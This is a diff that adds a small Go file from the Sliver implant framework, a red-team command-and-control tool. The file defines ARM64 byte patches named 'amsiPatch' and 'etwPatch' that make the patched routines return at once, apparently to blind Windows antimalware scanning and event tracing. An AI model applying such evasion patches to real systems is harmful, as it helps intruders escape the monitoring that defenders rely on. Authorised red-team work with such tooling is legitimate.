@@ -0,0 +1,26 @@
+package taskrunner
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+var (
+	// mov w0, #0x57; movk w0, #0x8007, lsl #16; ret (E_INVALIDARG)
+	amsiPatch = []byte{0xE0, 0x0A, 0x80, 0x52, 0xE0, 0x00, 0xB0, 0x72, 0xC0, 0x03, 0x5F, 0xD6}
+	// mov w0, #0; ret
+	etwPatch = []byte{0x00, 0x00, 0x80, 0x52, 0xC0, 0x03, 0x5F, 0xD6}
+)